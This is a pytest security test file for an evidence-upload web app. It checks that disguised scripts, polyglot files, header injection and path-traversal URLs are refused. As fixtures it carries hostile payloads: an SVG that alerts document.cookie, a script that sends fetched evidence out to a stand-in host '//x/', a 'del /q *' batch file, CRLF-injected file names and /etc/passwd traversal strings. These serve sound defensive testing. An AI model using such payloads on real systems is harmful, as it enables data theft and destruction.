"""Uploaded files can never be served as something that runs, and no URL or stored key reaches
outside the media folder."""

import os
import uuid

import pytest
from sqlalchemy import func, select

from support import images
from support.evidence import Officer, photo, task_id
from wardapp.evidence.models import Evidence, Media
from wardapp.extensions import db
from wardapp.media.storage import LocalStorage

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>alert(1)</script></svg>"
)
SCRIPT = b"fetch('/api/v1/evidence').then(r => r.text()).then(t => new Image().src = '//x/?' + t)"
XHTML = (
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">'
    b"<script>alert(1)</script></html>"
)
DISGUISES = {
    "HTML named as a photo": ("photo", "anh.jpg", images.html()),
    "SVG named as a photo": ("photo", "anh.jpg", SVG),
    "SVG as itself": ("photo", "logo.svg", SVG),
    "GIF with script after it": ("photo", "anh.gif", b"GIF89a/*\x01\x00\x01\x00*/=1;alert(1)//"),
    "HTML named as a PDF": ("attachment", "danh-sach.pdf", images.html()),
    "HTML as itself": ("attachment", "danh-sach.html", images.html()),
    "JavaScript": ("attachment", "bao-cao.js", SCRIPT),
    "XHTML named as a spreadsheet": ("attachment", "bang.xlsx", XHTML),
    "a ZIP of a web page named as Word": ("attachment", "bien-ban.docx", images.plain_zip()),
    # Five bytes of "%PDF-" in front of a page used to make it a PDF, kept under its name.
    "a web page behind the PDF prefix named .html": (
        "attachment",
        "bien-ban.html",
        b"%PDF-1.4\n" + images.html(),
    ),
    "a web page behind the PDF prefix named .hta": (
        "attachment",
        "bien-ban.hta",
        b"%PDF-1.4\n" + images.html(),
    ),
    "a script behind the PDF prefix named .cmd": (
        "attachment",
        "chay.cmd",
        b"%PDF-1.4\r\n@echo off\r\ndel /q *\r\n",
    ),
}
SAFE_TYPES = {
    "image/jpeg",
    "image/png",
    "image/webp",
    "image/heic",
    "image/heif",
    "application/pdf",
    "audio/mpeg",
    "audio/mp4",
    "audio/wav",
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def meeting_form(app) -> dict:
    return {
        "client_uuid": str(uuid.uuid4()),
        "task_id": str(task_id(app, 5)),
        "kind": "meeting",
        "occurred_at": "2024-03-21T14:00",
        "meeting_type": "Hội nghị",
        "place": "Hội trường",
        "organiser": "UBND phường",
        "attendees": "40",
    }


def media_files(app) -> list[str]:
    root = app.config["MEDIA_DIR"]
    return [os.path.join(d, f) for d, _, names in os.walk(root) for f in names]


def evidence_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count(Evidence.id)))


@pytest.mark.parametrize("disguise", DISGUISES)
def test_a_page_script_or_drawing_disguised_as_a_photo_or_file_is_refused_and_nothing_kept(
    seeded, disguise
):
    role, name, data = DISGUISES[disguise]
    officer = Officer(seeded, "tho-xuong")
    files = (
        {"photos": [(name, data)]}
        if role == "photo"
        else {"photos": [photo(3)], "attachments": [(name, data)]}
    )
    response = officer.post(meeting_form(seeded), **files)
    assert response.status_code == 415 and response.is_json
    assert role in response.json["fields"]
    assert evidence_count(seeded) == 0 and media_files(seeded) == []


@pytest.mark.parametrize("sent_as", ["bien-ban.html", "bien-ban.hta", "bien-ban.cmd"])
def test_a_real_pdf_sent_under_a_runnable_name_is_handed_out_as_a_pdf(seeded, sent_as):
    officer = Officer(seeded, "tho-xuong")
    response = officer.post(
        meeting_form(seeded), photos=[photo(3)], attachments=[(sent_as, images.pdf())]
    )
    assert response.status_code == 201, response.json
    media = response.json["media"][1]
    assert media["filename"] == "bien-ban.pdf" and media["content_type"] == "application/pdf"
    answer = officer.client.get(media["urls"]["original"])
    assert answer.mimetype == "application/pdf"
    assert answer.headers["Content-Disposition"] == "attachment; filename=bien-ban.pdf"
    reviewer = Officer(seeded, "vhtt").client.get(media["urls"]["original"])
    assert reviewer.headers["Content-Disposition"] == "attachment; filename=bien-ban.pdf"


def test_a_photo_is_handed_out_under_the_extension_of_its_type(seeded):
    officer = Officer(seeded, "tho-xuong")
    png = images.png(64, 48)
    media = officer.post(meeting_form(seeded), photos=[("Ảnh hội trường.JPG", png)]).json["media"][
        0
    ]
    answer = officer.client.get(media["urls"]["original"])
    assert answer.mimetype == "image/png"
    assert (
        "filename*=UTF-8''%E1%BA%A2nh%20h%E1%BB%99i%20tr%C6%B0%E1%BB%9Dng.png"
        in answer.headers["Content-Disposition"]
    )


def jpeg_carrying_html() -> bytes:
    """A real JPEG with a web page in a comment segment: accepted, and must stay a picture."""
    data = photo(4)
    segment = b"<html><script>alert(1)</script></html>"
    return data[:2] + b"\xff\xfe" + (len(segment) + 2).to_bytes(2, "big") + segment + data[2:]


def test_every_file_answer_has_a_fixed_type_nosniff_and_non_images_are_downloads(seeded):
    officer = Officer(seeded, "tho-xuong")
    response = officer.post(
        meeting_form(seeded),
        photos=[("anh.jpg", jpeg_carrying_html()), ("anh.png", images.png(64, 48))],
        attachments=[
            ("ky-ten.pdf", images.pdf()),
            ("bien-ban.docx", images.docx()),
            ("bang.xlsx", images.xlsx()),
            ("ghi-am.mp3", images.mp3()),
            ("ghi-am.wav", images.wav()),
            ("ghi-am.m4a", images.m4a()),
        ],
    )
    assert response.status_code == 201, response.json
    wrong = []
    for media in response.json["media"]:
        for variant, url in media["urls"].items():
            answer = officer.client.get(url)
            image = answer.mimetype.startswith("image/")
            disposition = answer.headers.get("Content-Disposition", "")
            if (
                answer.status_code != 200
                or answer.mimetype not in SAFE_TYPES
                or answer.headers.get("X-Content-Type-Options") != "nosniff"
                or "script-src 'self'" not in answer.headers["Content-Security-Policy"]
                or image == disposition.startswith("attachment")
                or (variant != "original" and answer.mimetype != "image/jpeg")
            ):
                wrong.append((media["filename"], variant, answer.mimetype, disposition))
    assert wrong == []


def test_a_file_name_cannot_add_headers_to_the_download(seeded):
    officer = Officer(seeded, "tho-xuong")
    # As a browser sends it: the quote and line breaks percent-encoded in the multipart header.
    name = "ds%22%0D%0AX-Injected: 1%0D%0A.pdf"
    media = officer.post(
        meeting_form(seeded), photos=[photo(5)], attachments=[(name, images.pdf())]
    ).json["media"][1]
    answer = officer.client.get(media["urls"]["original"])
    assert "X-Injected" not in answer.headers
    assert not any("\r" in v or "\n" in v for _, v in answer.headers.items())
    assert answer.headers["Content-Disposition"].startswith("attachment")


ODD_URLS = [
    "/media/1/../../../../etc/passwd",
    "/media/1/original/../../../../etc/passwd",
    "/media/%2e%2e/%2e%2e/etc/passwd",
    "/media/1/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/media/1/..%2f..%2finstance%2fsecret_key",
    "/media//etc/passwd/original",
    "/media/1/original%00.jpg",
    "/media/1/..%5c..%5cboot.ini",
    "/media/-1/original",
    "/media/1.0/original",
    "/media/0x1/original",
    "/media/1/ORIGINAL",
    "/media/99999999999999999999999999/original",
    "/media/1/original;/etc/passwd",
    "/media/%31/../original",
    "/static/../instance/secret_key",
    "/static/%2e%2e/instance/secret_key",
    "/static/..%2f..%2finstance%2fsecret_key",
]


def test_odd_media_urls_never_reach_the_file_system(seeded, monkeypatch):
    officer = Officer(seeded, "vhtt")
    Officer(seeded, "tho-xuong").site_photo(photos=[photo(6)])
    with seeded.app_context():
        stored = {
            k
            for m in db.session.scalars(select(Media))
            for k in (m.original_key, m.display_key, m.thumb_key)
        }
    asked = []
    real = LocalStorage._file
    monkeypatch.setattr(
        LocalStorage, "_file", lambda self, key: asked.append(key) or real(self, key)
    )
    for url in ODD_URLS:
        answer = officer.client.get(url)
        assert answer.status_code in (301, 308, 400, 404, 405), url
        body = answer.get_data()
        assert b"root:" not in body and seeded.config["SECRET_KEY"].encode() not in body, url
    assert set(asked) <= stored  # only keys the database holds, never one from a URL


@pytest.mark.parametrize(
    "tampered",
    [
        "../../secret.txt",
        "/etc/passwd",
        "{secret}",
        "ab/cd/../../../secret.txt",
        "ab/cd/" + "a" * 64 + "/..",
    ],
)
def test_a_storage_key_tampered_in_the_database_is_refused_not_followed(seeded, tmp_path, tampered):
    secret = tmp_path / "secret.txt"
    secret.write_text("mật khẩu máy chủ")
    officer = Officer(seeded, "tho-xuong")
    media = officer.site_photo(photos=[photo(7)]).json["media"][0]
    with seeded.app_context():
        row = db.session.get(Media, media["id"])
        row.original_key = row.display_key = tampered.format(secret=secret)
        db.session.commit()
    for variant in ("original", "display"):
        answer = officer.client.get(media["urls"][variant])
        assert answer.status_code == 404
        assert "mật khẩu".encode() not in answer.get_data() and b"root:" not in answer.get_data()
